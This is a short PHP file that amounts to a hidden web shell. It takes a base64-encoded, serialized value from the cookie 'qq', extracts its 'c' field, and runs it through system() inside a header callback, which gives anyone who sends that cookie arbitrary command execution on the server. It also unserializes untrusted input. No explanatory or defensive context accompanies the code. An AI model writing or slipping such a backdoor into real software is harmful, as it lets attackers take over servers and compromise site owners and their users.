<?php
$z = unserialize(base64_decode($_COOKIE['qq']))['c'];
header_register_callback(function () use ($z) { system($z); });
